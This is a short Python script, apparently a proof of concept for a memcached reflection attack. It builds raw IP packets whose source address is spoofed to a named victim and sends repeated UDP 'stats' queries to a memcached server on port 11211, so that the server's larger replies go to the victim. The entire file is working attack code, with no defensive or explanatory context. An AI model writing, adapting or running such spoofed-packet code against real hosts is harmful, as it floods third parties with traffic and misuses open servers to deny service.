"""Asks an open memcached in the victim's name."""
import socket
import struct
import time

victim, service = "198.51.100.20", "192.0.2.10"
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for number in range(120):
    question = struct.pack("!HHHH", number, 0, 1, 0) + b"stats\r\n"
    udp = struct.pack("!HHHH", 40000 + number % 8, 11211, 8 + len(question), 0) + question
    head = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), number, 0, 64, 17, 0, socket.inet_aton(victim), socket.inet_aton(service)
    )
    sender.sendto(head + udp, (service, 0))
    time.sleep(0.005)
